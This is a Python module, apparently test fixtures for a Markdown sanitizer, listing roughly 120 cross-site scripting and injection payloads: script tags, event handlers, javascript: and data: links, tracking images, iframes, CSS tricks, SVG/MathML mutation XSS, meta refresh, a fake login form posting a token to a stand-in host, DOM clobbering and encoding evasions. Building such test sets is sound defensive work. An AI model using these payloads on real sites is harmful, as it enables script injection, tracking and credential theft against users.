"""Markdown that tries to run a script, to load something from elsewhere, or to change the page around it."""

from __future__ import annotations

RUN = "window.__pwned=1"
"""What every script in here would do."""
AWAY = "http://elsewhere.invalid"
"""A server that nothing may be asked of."""

_SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={AWAY}/a.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script>",
    f"<script>{RUN}",
    f"<script type=module>import '{AWAY}/m.js'</script>",
    f'<script type="text/javascript">{RUN}</script ><!-- -->',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f"</script><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml-stylesheet href='{AWAY}/x.xsl'?><?php {RUN} ?>",
)
_HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f'<img """><script>{RUN}</script>">',
    f"<body onload={RUN}>",
    f"<div onmouseover={RUN} style='position:fixed;inset:0'>over</div>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<details open ontoggle={RUN}><summary>more</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>moves</marquee>",
    f"<p id=x tabindex=0 onfocus={RUN} autofocus>text</p>",
    f"<style onload={RUN}></style>",
    f"<div style='animation:spin 1s' onanimationstart={RUN}></div>",
    f"<button popovertarget=p onclick={RUN}>press</button><div popover id=p onbeforetoggle={RUN}>p</div>",
)
_LINKS = (
    f"[press](javascript:{RUN})",
    f"[press](JaVaScRiPt:{RUN})",
    f"[press](java\tscript:{RUN})",
    f"[press](&#106;avascript:{RUN})",
    f"[press](&#x6A;&#x61;vascript&colon;{RUN})",
    f"[press](javascript&Tab;:{RUN})",
    f"[press](<javascript:{RUN}>)",
    f"[press]( \x01javascript:{RUN})",
    f"[press](vbscript:{RUN})",
    f"[press](data:text/html,<script>{RUN}</script>)",
    "[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    f"[press](blob:{AWAY}/1)",
    f'[press](//elsewhere.invalid/"onmouseover="{RUN})',
    f'[press](x "title" onclick="{RUN}")',
    f"[press][ref]\n\n[ref]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"<a href=javascript:{RUN}>press</a>",
    f'<a href="x" ping="{AWAY}/ping">press</a>',
    f"[![image](x)](javascript:{RUN})",
    f"[a]: <javascript:{RUN}> 'b'\n\n[a]",
    "[file](file:///etc/passwd)",
    f"javascript:{RUN} and www.elsewhere.invalid and {AWAY}/plain and a@elsewhere.invalid",
)
_IMAGES = (
    f"![beacon]({AWAY}/beacon.png)",
    "![beacon](//elsewhere.invalid/b.png?who=me)",
    f'![beacon]({AWAY}/b.png "title")',
    f"![beacon][pic]\n\n[pic]: {AWAY}/ref.png",
    f"<img src={AWAY}/b.gif width=1 height=1>",
    f"<img srcset='{AWAY}/1.png 1x, {AWAY}/2.png 2x'>",
    f"<picture><source srcset={AWAY}/s.webp><img src=x></picture>",
    f"![x](javascript:{RUN})",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"![x](x){{onerror={RUN}}}",
    f"<video src={AWAY}/v.mp4 poster={AWAY}/p.png autoplay></video>",
    f"<link rel=stylesheet href={AWAY}/s.css><link rel=prefetch href={AWAY}/p><link rel=dns-prefetch href={AWAY}>",
)
_FRAMES = (
    f"<iframe src=javascript:{RUN}></iframe>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f"<iframe src={AWAY}></iframe>",
    f"<object data={AWAY}/o.swf></object>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src={AWAY}/e.swf>",
    f"<frameset onload={RUN}><frame src={AWAY}></frameset>",
    f"<portal src={AWAY}></portal>",
    f"<applet code=x archive={AWAY}/a.jar></applet>",
)
_STYLES = (
    f"<style>@import '{AWAY}/i.css'; body{{background:url({AWAY}/bg.png)}}</style>",
    f"<p style=\"background:url('{AWAY}/c.png')\">styled</p>",
    f"<p style='list-style-image:url({AWAY}/l.png);position:fixed;inset:0;z-index:99'>over all</p>",
    f'<div style="width:expression({RUN})">old</div>',
    "<style>*{display:none!important}</style>",
    f"<xss style=\"-moz-binding:url('{AWAY}/x.xml#xss')\">",
)
_FOREIGN = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text x=9 y=9>press</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
    f"<svg><image href={AWAY}/i.png /></svg>",
    f'<math><mtext></p><style><!--</style><img title="--></style><img src=x onerror={RUN}>"></math>',
    f"<math href=javascript:{RUN}>press</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
)
_PAGE = (
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<base href={AWAY}/>",
    f"<form action={AWAY}><input name=token><button>Log in</button></form>",
    f"<form id=f></form><button form=f formaction=javascript:{RUN}>press</button>",
    "<a id=__pwned></a><a name=x id=__pwned href=x:1></a>",
    "<img name=querySelector><form name=getElementById><input name=body></form>",
    "<div id=root></div><main id=main>another</main>",
    f"<html><head><title>Log in again</title></head><body onpageshow={RUN}></body></html>",
    f"</div></main></article><h1>Outside</h1><img src=x onerror={RUN}>",
)
_TRICKS = (
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--os x--><img src=x onerror={RUN}><!--",
    f"<!-- --!><script>{RUN}</script> -->",
    f"&lt;img src=x onerror={RUN}&gt; &amp;lt;script&amp;gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\u200b<scr\u200bipt>{RUN}</script>\u202e\u2066gnp.exe\u2069",
    f"\ufeff<script>{RUN}</script>\u2028<img src=x onerror={RUN}>",
    f"＜script＞{RUN}＜/script＞",
    "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1} #{window.__pwned=1} <%= window.__pwned=1 %>",
    f"[^1]: <img src=x onerror={RUN}>\n\nText[^1] and[^<script>{RUN}</script>]",
    f"| a | <img src=x onerror={RUN}> |\n|---|---|\n| [x](javascript:{RUN}) | ![b]({AWAY}/t.png) |",
    f"- [ ] <input type=image src={AWAY}/t.png onerror={RUN}>",
    f"```html\n<script>{RUN}</script>\n```\n<img src=x onerror={RUN}>",
    f"`<script>{RUN}</script>` ``<img src=x onerror={RUN}>``",
    f"<b><i><b><i><a href='x'><a href=javascript:{RUN}></b></i></a>",
    "*" * 300 + "[" * 300 + "<" * 300 + ">" * 200 + "a" + "]" * 300 + "(" * 300,
    f"---\ntitle: <script>{RUN}</script>\n---\n<script>{RUN}</script>",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ :::html <script>{RUN}</script> :::",
    "__proto__ constructor [toString](#__proto__) <a name=__proto__ id=toString>x</a>",
)

PAYLOADS: tuple[str, ...] = (
    *_SCRIPTS,
    *_HANDLERS,
    *_LINKS,
    *_IMAGES,
    *_FRAMES,
    *_STYLES,
    *_FOREIGN,
    *_PAGE,
    *_TRICKS,
)


def as_list(payloads: tuple[str, ...] = PAYLOADS) -> str:
    """All of them in one text, each in an item of its own, so that none hides the next."""
    return "\n".join("- " + each.replace("\n", "\n  ") for each in payloads)
